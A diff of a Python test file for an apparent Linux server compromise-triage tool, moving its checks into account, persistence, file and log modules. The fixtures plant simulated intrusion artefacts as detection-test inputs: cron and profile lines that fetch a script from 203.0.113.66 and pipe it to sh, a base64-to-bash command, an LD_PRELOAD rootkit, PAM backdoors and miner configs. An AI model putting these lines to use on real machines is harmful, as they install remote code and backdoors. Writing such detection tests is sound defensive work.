@@ -19,6 +19,8 @@ from hypothesis import strategies as st
 from vpsrescue.bundle import Manifest, ManifestEntry
 from vpsrescue.triage import system
 from vpsrescue.triage.model import Context, Finding, Site
+from vpsrescue.triage.system import accounts, commands, logs, persistence
+from vpsrescue.triage.system import files as system_files
 
 pytestmark = pytest.mark.unit
 
@@ -179,7 +181,7 @@ def test_accounts_extra_uid0_and_shells_found_hashes_never_shown(tmp_path: Path)
             "backup:*:19000:0:99999:7:::\n"
             f"www-data:{HASH.replace('Qx1n', 'WwWd')}:19000::::::\n")
     # www-data now appears twice in shadow: the later line (with a hash) wins
-    found = list(system.check_accounts(t.ctx()))
+    found = list(accounts.check_accounts(t.ctx()))
     text = json.dumps([f.to_json() for f in found])
     assert "4m0Ck3dHash" not in text and "$6$" not in text
     uid0 = [f for f in found if f.kind == "uid0_account"]
@@ -202,7 +204,7 @@ def test_accounts_genuine_debian_is_quiet(tmp_path: Path) -> None:
     t = Tree(tmp_path)
     t.write("/etc/passwd", PASSWD)
     t.write("/etc/shadow", SHADOW)
-    assert serious(system.check_accounts(t.ctx())) == []
+    assert serious(accounts.check_accounts(t.ctx())) == []
 
 
 # --------------------------------------------------------------------------- sudoers
@@ -212,12 +214,12 @@ def test_sudoers_nopasswd_and_all_grants_found_defaults_quiet(tmp_path: Path) ->
     t.write("/etc/sudoers", SUDOERS)
     t.write("/etc/sudoers.d/README", "#\n# Files in /etc/sudoers.d are parsed...\n"
             "# deploy ALL=(ALL) NOPASSWD: ALL\n")
-    assert list(system.check_sudoers(t.ctx())) == []
+    assert list(accounts.check_sudoers(t.ctx())) == []
     t.write("/etc/sudoers.d/90-cloud", "sysbackup ALL=(ALL) \\\n    NOPASSWD: ALL\n"
             "%www ALL=(root) NOPASSWD: /usr/sbin/service apache2 reload\n"
             "deploy ALL=(ALL:ALL) ALL\n@include /etc/sudo.local\n")
     t.write("/etc/sudo.local", "www-data ALL=NOPASSWD:ALL\n")
-    found = list(system.check_sudoers(t.ctx()))
+    found = list(accounts.check_sudoers(t.ctx()))
     got = {(f.extra["who"], f.severity, f.path) for f in found}
     assert got == {("sysbackup", "critical", "/etc/sudoers.d/90-cloud"),
                    ("%www", "high", "/etc/sudoers.d/90-cloud"),
@@ -244,7 +246,7 @@ def test_ssh_every_key_reported_with_fingerprint_and_options(tmp_path: Path) -> 
     t.write("/home/alice/.ssh/authorized_keys2",
             f'command="/usr/bin/rsync --server",from="10.0.0.0/8,198.51.100.9" {admin}\n')
     t.write("/home/alice/.ssh/known_hosts", f"example.org {admin}\n")
-    found = by_path(system.check_ssh(t.ctx()))
+    found = by_path(accounts.check_ssh(t.ctx()))
     root_keys = found["/root/.ssh/authorized_keys"]
     assert [f.severity for f in root_keys] == ["high", "high"]
     assert intruder.split()[1] in root_keys[1].evidence and "root@localhost" in \
@@ -266,12 +268,12 @@ def test_ssh_sshd_config_changes_found_debian_default_quiet(tmp_path: Path) -> N
             "#PermitRootLogin prohibit-password\n#PasswordAuthentication yes\n"
             "#AuthorizedKeysFile     .ssh/authorized_keys .ssh/authorized_keys2\n"
             "ChallengeResponseAuthentication no\nUsePAM yes\nX11Forwarding yes\n")
-    assert list(system.check_ssh(t.ctx())) == []
+    assert list(accounts.check_ssh(t.ctx())) == []
     t.write("/etc/ssh/sshd_config.d/zz.conf", "PermitRootLogin yes\n"
             "PasswordAuthentication=yes\nAuthorizedKeysFile /etc/ssh/keys/%u\n")
     t.write("/etc/ssh/keys/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7dAfJ2"
             "sCdHa3FzR+x9VO1391XZCI/G hidden@key\n")
-    found = list(system.check_ssh(t.ctx()))
+    found = list(accounts.check_ssh(t.ctx()))
     kinds = sorted((f.kind, f.severity) for f in found)
     assert kinds == [("authorized_key", "high"), ("sshd_config", "low"),
                      ("sshd_config", "medium"), ("sshd_config", "medium")]
@@ -296,7 +298,7 @@ def test_authorized_key_lines_parse_back(options: list[str], ktype: str, raw: by
     blob = base64.b64encode(raw).decode()
     opts = ",".join(options)
     line = f"{opts} {ktype} {blob} {comment}" if opts else f"{ktype} {blob} {comment}"
-    assert system.parse_authorized_key(line) == (opts, ktype, blob, comment.strip())
+    assert accounts.parse_authorized_key(line) == (opts, ktype, blob, comment.strip())
 
 
 # --------------------------------------------------------------------------- cron
@@ -312,7 +314,7 @@ def test_cron_fetch_and_unowned_found_packaged_quiet(tmp_path: Path) -> None:
               conffiles=["/etc/cron.daily/logrotate"])
     # packaged as shipped, though it names /tmp: trusted (md5sums, not a conffile)
     t.package("sysstat", {"/etc/cron.daily/sysstat": "#!/bin/sh\nTMP=/tmp/sa.$$\n"})
-    assert list(system.check_cron(t.ctx())) == []
+    assert list(persistence.check_cron(t.ctx())) == []
     t.write("/etc/cron.d/apache2-update", "# apache2 maintenance\n*/15 * * * * root (curl "
             "-fsSL http://203.0.113.66/u.sh || wget -q -O- http://203.0.113.66/u.sh) | sh\n")
     t.write("/etc/cron.d/backup", "30 2 * * * root /usr/local/bin/backup-db\n")
@@ -320,7 +322,7 @@ def test_cron_fetch_and_unowned_found_packaged_quiet(tmp_path: Path) -> None:
             "# DO NOT EDIT THIS FILE\n* * * * * echo Y3VybCBldmls | base64 -d | bash\n")
     t.write("/etc/cron.d/php", CRON_PHP + "# local\n")  # edited conffile, harmless
     t.write("/etc/cron.daily/sysstat", "#!/bin/sh\nTMP=/tmp/sa.$$\n/dev/shm/.s &\n")
-    found = by_path(system.check_cron(t.ctx()))
+    found = by_path(persistence.check_cron(t.ctx()))
     (fetch,) = found["/etc/cron.d/apache2-update"]
     assert fetch.severity == "critical" and "http://203.0.113.66/u.sh" in fetch.evidence
     assert found["/etc/cron.d/backup"][0].severity == "medium"
@@ -342,7 +344,7 @@ def test_cron_fetch_and_unowned_found_packaged_quiet(tmp_path: Path) -> None:
     ("0 4 * * * www-data php /var/www/site/wp-cron.php >/dev/null 2>&1", False),
 ])
 def test_suspicious_command_lines(line: str, flagged: bool) -> None:
-    assert (system.suspicious(line) is not None) == flagged
+    assert (commands.suspicious(line) is not None) == flagged
 
 
 # --------------------------------------------------------------------------- systemd
@@ -357,7 +359,7 @@ def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path:
     t.link("/etc/systemd/system/apt-daily.service", "/dev/null")  # masked
     t.package("webmin", {"/usr/share/webmin/webmin.service": SSH_UNIT})
     t.link("/etc/systemd/system/webmin.service", "/usr/share/webmin/webmin.service")
-    assert list(system.check_systemd(t.ctx())) == []
+    assert list(persistence.check_systemd(t.ctx())) == []
     t.write("/opt/.cache/agent.service", SSH_UNIT)
     t.link("/etc/systemd/system/agent.service", "/opt/.cache/agent.service")
     t.write("/etc/systemd/system/kworkerd.service", "[Unit]\nDescription=Kernel worker\n"
@@ -367,7 +369,7 @@ def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path:
            "/etc/systemd/system/kworkerd.service")
     t.write("/etc/systemd/system/backup.service", "[Service]\nType=oneshot\n"
             "ExecStart=/usr/local/bin/backup-db\n")
-    found = by_path(system.check_systemd(t.ctx()))
+    found = by_path(persistence.check_systemd(t.ctx()))
     (kw,) = found["/etc/systemd/system/kworkerd.service"]
     assert kw.severity == "critical" and kw.extra["enabled"] is True
     assert kw.evidence.startswith("ExecStart=/var/tmp/.X11-unix/kworkerd")
@@ -393,14 +395,14 @@ def test_startup_scripts_found_debian_defaults_quiet(tmp_path: Path) -> None:
     t.write("/home/alice/.profile", SKEL_PROFILE + 'if [ -d "$HOME/.local/bin" ] ; then\n'
             '    PATH="$HOME/.local/bin:$PATH"\nfi\n. "$HOME/.cargo/env"\n')
     t.write("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nexit 0\n")
-    assert list(system.check_startup(t.ctx())) == []
+    assert list(persistence.check_startup(t.ctx())) == []
     t.write("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent &\nexit 0\n")
     t.write("/etc/init.d/kworker", "#!/bin/sh\n/var/tmp/.X11-unix/kworkerd &\n")
     t.write("/etc/profile.d/motd.sh", "curl -s http://203.0.113.66/m | sh\n")
     t.write("/root/.bashrc", SKEL_BASHRC + "export LD_PRELOAD=/usr/lib/libhide.so\n")
     t.write("/etc/profile.d/gawk.sh", "gawkpath_default () {\n\tunset AWKPATH\n}\n"
             "export AWKPATH=/usr/share/awk\n")
-    found = by_path(system.check_startup(t.ctx()))
+    found = by_path(persistence.check_startup(t.ctx()))
     assert found["/etc/rc.local"][0].severity == "high"
     assert found["/etc/init.d/kworker"][0].severity == "high"
     assert found["/etc/profile.d/motd.sh"][0].severity == "critical"
@@ -416,11 +418,11 @@ def test_ld_so_preload_file_and_unowned_library(tmp_path: Path) -> None:
     t = Tree(tmp_path)
     t.package("libc6", {"/usr/lib/x86_64-linux-gnu/libc.so.6": ELF})
     t.write("/etc/ld.so.preload", "# nothing\n\n")
-    assert list(system.check_ld_so_preload(t.ctx())) == []
+    assert list(persistence.check_ld_so_preload(t.ctx())) == []
     lib = "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"
     t.write(lib, ELF)
     t.write("/etc/ld.so.preload", f"{lib}\n/usr/lib/x86_64-linux-gnu/libc.so.6\n")
-    found = by_path(system.check_ld_so_preload(t.ctx()))
+    found = by_path(persistence.check_ld_so_preload(t.ctx()))
     (pre,) = found["/etc/ld.so.preload"]
     assert pre.severity == "critical" and lib in pre.evidence and not pre.quarantine
     (lf,) = found[lib]
@@ -437,10 +439,10 @@ def test_suid_unowned_found_packaged_and_dirs_quiet(tmp_path: Path) -> None:
     d = t.root / "var/lib/transmission-daemon/downloads"
     d.mkdir(parents=True)
     os.chmod(d, 0o2775)
-    assert list(system.check_suid(t.ctx())) == []
+    assert list(system_files.check_suid(t.ctx())) == []
     t.write("/usr/local/bin/.pwn", ELF, mode=0o4755)
     t.write("/var/www/site/tool", ELF, mode=0o2755)
-    found = by_path(system.check_suid(t.ctx()))
+    found = by_path(system_files.check_suid(t.ctx()))
     assert found["/usr/local/bin/.pwn"][0].severity == "high"
     assert found["/var/www/site/tool"][0].evidence == "mode 2755"
     assert all(f.quarantine for fs in found.values() for f in fs)
@@ -458,7 +460,7 @@ def test_suid_in_a_bundle_comes_from_the_manifest(tmp_path: Path) -> None:
     m.add(ManifestEntry(path=b"var/www/site/tool", type="file", size=len(ELF), mode=0o4755))
     m.add(ManifestEntry(path=b"var/www/site/index.php", type="file", size=6, mode=0o644))
     m.save(bundle / "manifest.json")
-    found = list(system.check_suid(Context(files)))
+    found = list(system_files.check_suid(Context(files)))
     assert [(f.path, f.evidence) for f in found] == [("/var/www/site/tool", "mode 4755")]
 
 
@@ -473,7 +475,7 @@ def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
     t.write("/root/.cargo/bin/rustc", ELF)
     t.write("/var/www/site/wp-content/plugins/p/bin/helper", ELF)  # not hidden: not here
     sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
-    quiet = serious(system.check_tmp(t.ctx(sites)))
+    quiet = serious(system_files.check_tmp(t.ctx(sites)))
     assert [(f.path, f.severity) for f in quiet] == [("/root/.cargo/bin/rustc", "low")]
     t.write("/var/tmp/.X11-unix/kworkerd", ELF)
     t.write("/var/tmp/.X11-unix/config.json", json.dumps(
@@ -481,7 +483,7 @@ def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
     t.write("/dev/shm/.../m.conf", "url = stratum+tcp://198.51.100.3:3333\n")
     t.write("/root/.local/share/.m/c.json", '{"pools": [{"url": "198.51.100.3:3333"}]}')
     t.write("/var/www/site/wp-content/uploads/.cache/php-fpm", ELF)
-    found = by_path(system.check_tmp(t.ctx(sites)))
+    found = by_path(system_files.check_tmp(t.ctx(sites)))
     assert found["/var/tmp/.X11-unix/kworkerd"][0].kind == "elf_in_tmp"
     assert found["/var/www/site/wp-content/uploads/.cache/php-fpm"][0].severity == "critical"
     assert found["/var/tmp/.X11-unix/config.json"][0].kind == "miner"
@@ -516,7 +518,7 @@ def test_modified_binaries_and_shadowing_commands(tmp_path: Path) -> None:
     t.write("/usr/local/sbin/ps", ELF, mode=0o644)  # as in a bundle's files/: no exec bits
     t.package("procps", {"/bin/ps": ELF + b"\0ps"})
     t.write("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2", ELF)
-    found = by_path(system.check_binaries(t.ctx()))
+    found = by_path(system_files.check_binaries(t.ctx()))
     (ssh,) = found["/usr/sbin/sshd"]
     assert ssh.kind == "modified_binary" and ssh.severity == "critical"
     assert ssh.extra["package"] == "openssh-server"
@@ -550,7 +552,7 @@ def test_bittorrent_client_open_rpc_and_large_downloads(tmp_path: Path) -> None:
     t.write("/etc/transmission-daemon/settings.json", json.dumps(TRANSMISSION_DEFAULT))
     t.write("/var/www/site/wp-content/uploads/2020/01/intro.mp4", b"\0" * 4096)
     sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
-    assert list(system.check_bittorrent(t.ctx(sites))) == []
+    assert list(system_files.check_bittorrent(t.ctx(sites))) == []
     t.package("transmission-daemon", {"/usr/bin/transmission-daemon": ELF},
               version="3.00-1")
     t.link("/etc/systemd/system/multi-user.target.wants/transmission-daemon.service",
@@ -564,7 +566,7 @@ def test_bittorrent_client_open_rpc_and_large_downloads(tmp_path: Path) -> None:
         os.truncate(local, 60 << 20)  # sparse: large without writing 60 MB
     t.write("/etc/transmission-daemon/settings.json", json.dumps(
         TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0, "download-dir": "/srv/media/dl"}))
-    found = by_path(system.check_bittorrent(t.ctx(sites)))
+    found = by_path(system_files.check_bittorrent(t.ctx(sites)))
     (inst,) = found["/var/lib/dpkg/info/transmission-daemon.list"]
     assert inst.extra["enabled"] is True and "/usr/bin/transmission-daemon" in inst.evidence
     (rpc,) = found["/etc/transmission-daemon/settings.json"]
@@ -606,7 +608,7 @@ def test_logs_root_logins_per_ip_upload_posts_and_history(tmp_path: Path) -> Non
                  'uploads/photo.php.jpg HTTP/1.1" 200 1 "-" "M"\n')
     t.write("/home/alice/.bash_history", "ls\n")
     t.link("/root/.bash_history", "/dev/null")
-    found = list(system.check_logs(t.ctx()))
+    found = list(logs.check_logs(t.ctx()))
     ips = {f.extra["ip"]: f for f in found if "ip" in f.extra}
     assert set(ips) == {"203.0.113.66", "198.51.100.7"}
     assert ips["203.0.113.66"].extra["count"] == 2
@@ -631,7 +633,7 @@ def test_hosts_and_apache_modules(tmp_path: Path) -> None:
                           "/etc/apache2/mods-available/rewrite.load":
                           "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n"},
               conffiles=["/etc/apache2/mods-available/rewrite.load"])
-    assert list(system.check_hosts_apache(t.ctx())) == []
+    assert list(persistence.check_hosts_apache(t.ctx())) == []
     t.write("/etc/hosts", "127.0.0.1 localhost\n203.0.113.5 api.wordpress.org "
             "downloads.wordpress.org\n")
     t.write("/usr/lib/apache2/modules/mod_cache_fast.so", ELF)
@@ -639,7 +641,7 @@ def test_hosts_and_apache_modules(tmp_path: Path) -> None:
     t.write("/etc/apache2/mods-available/cache_fast.load", load)
     t.link("/etc/apache2/mods-enabled/cache_fast.load", "../mods-available/cache_fast.load")
     t.write("/etc/apache2/conf-available/speed.conf", load)  # the same module, twice
-    found = list(system.check_hosts_apache(t.ctx()))
+    found = list(persistence.check_hosts_apache(t.ctx()))
     assert sorted(f.title for f in found if f.kind == "hosts") == [
         "/etc/hosts redirects api.wordpress.org to 203.0.113.5",
         "/etc/hosts redirects downloads.wordpress.org to 203.0.113.5"]
@@ -669,13 +671,13 @@ def test_pam_backdoors_and_unowned_kernel_modules(tmp_path: Path) -> None:
         "/lib/modules/5.10.0-28-amd64/kernel/fs/ext4/ext4.ko": ELF})
     t.write("/etc/pam.d/common-auth", COMMON_AUTH)  # written by pam-auth-update: no package
     t.write("/etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
-    assert list(system.check_pam(t.ctx())) == []
+    assert list(persistence.check_pam(t.ctx())) == []
     t.write(sec + "pam_unix2.so", ELF)
     t.write("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n"
             "auth optional pam_exec.so quiet /usr/local/sbin/log-pw\n")
     t.write("/etc/pam.d/common-auth", COMMON_AUTH.replace("pam_unix.so", "pam_unix2.so"))
     t.write("/lib/modules/5.10.0-28-amd64/extra/diamorphine.ko", ELF)
-    found = list(system.check_pam(t.ctx()))
+    found = list(persistence.check_pam(t.ctx()))
     got = sorted((f.path, f.severity, f.kind) for f in found)
     assert got == [("/etc/pam.d/common-auth", "critical", "pam"),
                    ("/etc/pam.d/sshd", "critical", "pam"),
@@ -707,6 +709,15 @@ def test_findings_carry_the_runners_check_name(tmp_path: Path) -> None:
     assert {f.check for f in report.findings} == set(report.checks)
 
 
-def test_checks_tuple_names_every_check() -> None:
-    assert {c.__name__ for c in system.CHECKS} == {
-        n for n in dir(system) if n.startswith("check_")}
+def test_checks_tuple_names_every_check_of_every_system_module() -> None:
+    defined = {getattr(m, n) for m in (accounts, persistence, system_files, logs)
+               for n in dir(m) if n.startswith("check_")}
+    assert set(system.CHECKS) == defined and len(system.CHECKS) == len(defined)
+    # the rule ids stay what reports and tests have always called them
+    from vpsrescue.triage.run import _check_name
+
+    assert [_check_name(c) for c in system.CHECKS] == [
+        "system.accounts", "system.sudoers", "system.ssh", "system.cron", "system.systemd",
+        "system.startup", "system.ld_so_preload", "system.suid", "system.tmp",
+        "system.binaries", "system.pam", "system.bittorrent", "system.logs",
+        "system.hosts_apache"]
